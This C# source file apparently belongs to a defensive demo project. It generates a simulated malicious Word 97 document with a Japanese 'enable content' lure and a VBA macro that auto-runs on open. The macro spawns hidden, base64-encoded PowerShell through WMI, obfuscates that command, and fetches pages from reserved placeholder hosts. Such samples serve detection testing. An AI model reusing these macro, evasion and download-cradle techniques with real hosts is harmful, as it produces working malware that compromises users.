using System.Text;
using Hikeshi.Formats.Cfb;
using Hikeshi.Formats.Vba;

namespace Hikeshi.Demo.Wave;

/// <summary>A Word 97 document as the wave carried it: a text that asks to enable content, and a macro that would start PowerShell.</summary>
/// <remarks>Harmless: all addresses end in reserved names (RFC 2606), and the script only asks them for a page and throws it away.
/// The shape (start by event, WMI, base64 of UTF-16, five addresses joined) is that of 2020; the words are made here.</remarks>
sealed class LureDocument(Dice dice)
{
    static readonly Guid Word97 = new("00020906-0000-0000-C000-000000000046");
    static readonly string[] Sites = ["kawara-blog.example", "nails-mia.test", "autohaus-lind.invalid", "petshop-ono.example", "foto-rivera.test", "garden-tools.invalid"];
    static readonly string[] Folders = ["wp-content", "wp-includes", "assets", "cgi-bin", "old"];

    public IReadOnlyList<string> Addresses(int count) =>
        [.. Enumerable.Range(0, count).Select(_ => $"http://{dice.Hex(4)}.{dice.Pick(Sites)}/{dice.Pick(Folders)}/{dice.Hex(6)}/")];

    public byte[] Write(IReadOnlyList<string> addresses)
    {
        var script = $"$l='{string.Join('@', addresses)}'.Split('@');foreach($a in $l){{try{{(New-Object Net.WebClient).DownloadString($a)|Out-Null;break}}catch{{}}}}";
        var command = $"powershell -w hidden -en {Convert.ToBase64String(Encoding.Unicode.GetBytes(script))}";
        var (name, variable) = ("M" + dice.Hex(7), "v" + dice.Hex(6));
        VbaSourceModule[] modules =
        [
            new("ThisDocument", $"Private Sub Document_Open()\r\n    {name}.Run{name}\r\nEnd Sub\r\n", VbaModuleKind.Document),
            new(name, $"Sub Run{name}()\r\n    Dim {variable} As String\r\n{Hide(variable, command)}"
                + $"    Set q = GetObject(\"winm\" & \"gmts:Win\" & \"32_Process\")\r\n    q.Create {variable}, Null, Null, p\r\nEnd Sub\r\n"),
        ];
        return CompoundFileWriter.Write(
            [new("WordDocument", Body()), new("1Table", new byte[512]), .. VbaProjectWriter.Streams("Macros", modules)], Word97);
    }

    /// <summary>Spells the command so that it does not stand in the source: joined, reversed, or with junk that is replaced.</summary>
    string Hide(string variable, string command)
    {
        var junk = "~" + dice.Hex(3) + "~";
        var lines = new StringBuilder();
        switch (dice.Below(3))
        {
            case 0:
                foreach (var piece in command.Chunk(90))
                    lines.Append($"    {variable} = {variable} & \"{new string(piece)}\"\r\n");
                break;
            case 1:
                foreach (var piece in command.Chunk(90))
                {
                    Array.Reverse(piece);
                    lines.Append($"    {variable} = {variable} & StrReverse(\"{new string(piece)}\")\r\n");
                }
                break;
            default:
                foreach (var piece in command.Chunk(60))
                    lines.Append($"    {variable} = {variable} & Replace(\"{new string(piece.AsSpan(0, piece.Length / 2))}{junk}{new string(piece.AsSpan(piece.Length / 2))}\", \"{junk}\", \"\")\r\n");
                break;
        }
        return lines.ToString();
    }

    /// <summary>A file information block's beginning (MS-DOC 2.5.1) and the lure as UTF-16 text where simple readers look for it.</summary>
    static byte[] Body()
    {
        const string lure = "この文書は保護されています。\r内容を見るには「編集を有効にする」を押し、続けて「コンテンツの有効化」を押してください。\r";
        var body = new byte[4096];
        ((ReadOnlySpan<byte>)[0xEC, 0xA5, 0xC1, 0x00]).CopyTo(body);
        Encoding.Unicode.GetBytes(lure).CopyTo(body, 0x200);
        return body;
    }
}
